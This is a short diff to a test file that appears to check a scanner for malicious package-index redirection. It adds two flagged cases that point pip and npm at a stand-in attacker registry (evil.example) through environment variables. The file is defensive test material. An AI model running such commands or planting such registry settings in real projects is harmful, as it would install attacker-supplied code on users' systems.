@@ -35,6 +35,8 @@ FLAGGED = [
     ),
     ({"r.txt": f"requests\n--index-url \\\n  {EVIL}\n"}, "pip install -r r.txt"),
     ({"app/r.txt": f"-i {EVIL}\n"}, "cd app && pip install -r r.txt"),
+    ({"r.txt": "--index-url ${IDX}\n"}, f"IDX={EVIL} pip install -r r.txt"),
+    ({".npmrc": "registry=${REG}\n"}, "export REG=https://evil.example/npm; npm install"),
     ({"pip.conf": f"[global]\nindex-url = {EVIL}\n"}, "PIP_CONFIG_FILE=pip.conf pip install x"),
     (
         {"pip.conf": f"[install]\nextra-index-url =\n    https://pypi.org/simple\n    {EVIL}\n"},
